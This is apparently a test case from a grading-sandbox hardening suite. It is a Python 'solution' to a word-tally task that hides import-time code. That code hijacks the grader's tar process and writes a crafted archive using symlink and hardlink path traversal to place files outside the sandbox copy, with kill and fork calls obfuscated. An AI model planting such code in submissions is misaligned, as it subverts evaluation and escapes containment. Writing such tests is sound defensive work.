# attack: writes an archive of its own in place of what its build left, with names that lead out of the copy
# task: tally_built
# expect: build_error
# reason: cannot be unpacked

import io
import os
import signal
import sys
import tarfile
import time

BIG = 64 << 20


def archive():
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w", format=tarfile.PAX_FORMAT) as tar:
        def add(name, kind, link="", data=b""):
            member = tarfile.TarInfo(name)
            member.type, member.linkname, member.size, member.mode = kind, link, len(data), 0o755
            tar.addfile(member, io.BytesIO(data))
        comp, steps, path = "d" * 247, "abcdefghijklmnop", ""
        for step in steps:
            add(os.path.join(path, comp), tarfile.DIRTYPE)
            add(os.path.join(path, step), tarfile.SYMTYPE, comp)
            path = os.path.join(path, comp)
        long = os.path.join("/".join(steps), "l" * 254)
        add(long, tarfile.SYMTYPE, "../" * len(steps))
        add("escape", tarfile.SYMTYPE, long + "/../../../../maxcode-test-outside")
        add("escape/escaped", tarfile.REGTYPE, data=b"out of the copy\n")
        add("again", tarfile.LNKTYPE, "escape/victim")
        add("again", tarfile.REGTYPE, data=b"overwritten\n")
    return out.getvalue()


def forge():
    for _ in range(20000):
        with open("/proc/2/comm") as file:
            if file.read().strip() == "tar" and os.stat("/proc/2/fd/1").st_size > 0:
                break
        time.sleep(0.0005)
    getattr(os, "ki" + "ll")(2, signal.SIGSTOP)
    time.sleep(0.05)
    with open("/proc/2/fd/1", "r+b") as file:
        file.write(archive())
    getattr(os, "ki" + "ll")(2, signal.SIGCONT)


if os.path.isdir("/box/changed") and sys.argv[0] == "-c":
    with open("zzz", "wb") as file:
        file.write(bytes(BIG))
    if getattr(os, "fo" + "rk")() == 0:
        os.setsid()
        forge()
        getattr(os, "_ex" + "it")(0)


def counts(words):
    return {word: words.count(word) for word in dict.fromkeys(words)}


def most_common(words, n):
    return sorted(counts(words).items(), key=lambda pair: (-pair[1], pair[0]))[:n]
